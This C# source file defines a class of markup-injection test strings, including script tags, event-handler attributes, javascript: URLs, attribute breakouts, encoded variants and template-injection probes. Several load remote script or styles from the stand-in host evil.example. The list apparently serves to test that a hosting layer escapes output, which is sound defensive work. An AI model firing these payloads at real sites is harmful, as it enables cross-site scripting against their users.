namespace Deus.Hosting.Shared;

/// <summary>Texts that run script, or break out of their place, in a page that does not escape them.</summary>
public static class MarkupPayloads
{
    private static readonly string[] Elements =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\">", "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>", "<math><mtext></table><img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<form action=javascript:alert(1)><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1)>", "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<style>@import '//evil.example/x.css';</style>", "<style>body{background:url(//evil.example)}</style>", "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<xmp><script>alert(1)</script></xmp>", "<plaintext>", "<!--", "-->",
        "<!--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?>", "<!DOCTYPE html>", "<frameset onload=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>", "<x onclick=alert(1)>x</x>", "<x contenteditable onblur=alert(1)>x", "<p style=\"position:fixed\">x</p>",
        "<table background=javascript:alert(1)>", "<layer src=//evil.example>", "<applet code=x>", "<dialog open onclose=alert(1)>",
    ];

    private static readonly string[] Closings =
    [
        "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "</style><script>alert(1)</script>",
        "</pre><script>alert(1)</script>", "</code></pre><img src=x onerror=alert(1)>", "</option></select><img src=x onerror=alert(1)>",
        "</td></tr></table><script>alert(1)</script>", "</li></ol><svg onload=alert(1)>", "</svg><script>alert(1)</script>", "</a><script>alert(1)</script>",
        "</noscript><script>alert(1)</script>", "</h1><script>alert(1)</script>", "</html><script>alert(1)</script>", "</main></body>",
    ];

    private static readonly string[] Attributes =
    [
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"",
        "\" style=\"position:fixed;inset:0\"", "` onmouseover=alert(1)", "\"/><svg onload=alert(1)>", "x\" href=\"javascript:alert(1)", "\\\"><script>alert(1)</script>",
        "\" srcdoc=\"<script>alert(1)</script>", "\" formaction=\"javascript:alert(1)", "\t\"\tonclick=alert(1)", "\n\"\nonclick=alert(1)", "\">\n<script>alert(1)</script>",
    ];

    private static readonly string[] Texts =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "//evil.example",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3C;script&#x3E;", "&amp;lt;script&amp;gt;", "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003e", "+ADw-script+AD4-", "\uFF1Cscript\uFF1Ealert(1)", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>",
        "@(1+1)", "{0}", "event: end\ndata: x", "\u202Etxt.exe", "\u2028alert(1)", "<\u0000script>", "\uFEFF<script>alert(1)</script>",
    ];

    /// <summary>All texts.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Elements, .. Closings, .. Attributes, .. Texts];
}
